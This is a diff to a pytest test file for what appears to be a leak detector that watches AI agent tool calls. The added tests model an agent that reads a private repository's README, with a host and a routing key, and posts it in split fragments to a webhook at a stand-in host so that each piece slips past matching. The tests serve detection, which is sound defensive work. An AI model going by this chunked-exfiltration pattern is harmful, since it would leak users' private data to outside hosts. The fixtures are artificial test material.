@@ -8,7 +8,7 @@ from collections.abc import Iterable
 import pytest
 
 from cyclops.core import Action, Decision, Mode, Patterns, Session
-from cyclops.core.continuation import MAX_TEXT, Continuer, preceding
+from cyclops.core.continuation import MAX_TEXT, Continuer, preceding, trailing
 from cyclops.testing import Step, play, step
 
 RECORD = "cust_89794 przybylski folasade folasade.przybylski@fastmail.example +31389451316 1959"
@@ -319,3 +319,49 @@ def test_a_record_id_sent_alone_right_before_its_first_piece_counts(detect: Sess
     pieces_sent(detect, customers(ROW), map(posted, pieces))
     sent = len("cust_97963Szczepanikingridingrid.szczepanik@posteo.example+3104078729691999-03-08")
     assert abs(detect.verdict().leaked_bytes - sent) <= sent // 10
+
+
+@pytest.mark.parametrize(
+    ("texts", "expected"),
+    [
+        # the end of a call cut a word of the private text: it anchors where the text holds it
+        (["part 1: vordrezan-5076 kelzant"], ["kelzant"]),
+        (["chunk 1 -> kelvor <-"], ["kelvor"]),
+        # the longest end the text holds, from the start of a token
+        (["x rk_v5ly"], ["rk_v5ly"]),
+        # an end that stops where a word of the text stops is a word, not a cut
+        (["see the README at vordrezan"], []),
+        # too few letters and digits; or a text too long to be a split piece
+        (["part 2: kel"], []),
+        (["x" * 300 + " kelzant"], []),
+    ],
+)
+def test_the_piece_a_call_ended_with_anchors_inside_a_word_of_the_private_text(
+    texts: list[str], expected: list[str]
+) -> None:
+    source = "# vordrezan-5076 (private) primary: `kelzantryn-690.int.vandelay.example` "
+    source += "routing key: `rk_v5lyckkqzcu2ugacpj1r2wqxhe` kelvorpax-869"
+    assert [source[a:b] for a, b in trailing(source, texts, 4)] == expected
+
+
+def test_a_host_cut_where_no_piece_linked_counts_whole_with_the_piece_before(
+    detect: Session,
+) -> None:
+    # "kelzant" links nothing by itself, and "ryn-690.int.vande" no whole word of the host:
+    # the second piece continues the word the first one cut.
+    readme = "# vordrezan-5076 (private)\n\n- primary: `kelzantryn-690.int.vandelay.example`\n"
+    readme += "- routing key: `rk_V5lYcKkqzcu2ugacpJ1R2wqXHE`\n"
+    pieces = [
+        "part 1: vordrezan-5076, kelzant",
+        "ryn-690.int.vande",
+        "part 3: lay.ex",
+        "chunk 4 -> ample, rk_V5lYcKkqzcu2ugacpJ1R2wqXHE <-",
+    ]
+    private = step("github", "get_file_contents", {"owner": "li", "repo": "vordrezan-5076"}, readme)
+    posts = (
+        step("hooks", "post_webhook", {"url": "https://x.example/in", "log": p}) for p in pieces
+    )
+    decisions = pieces_sent(detect, private, posts)
+    sent = len("vordrezan-5076kelzantryn-690.int.vandelay.examplerk_V5lYcKkqzcu2ugacpJ1R2wqXHE")
+    assert decisions[1].leaked_bytes >= len("kelzantryn-690.int.vande")
+    assert abs(sum(d.leaked_bytes for d in decisions) - sent) <= sent // 10
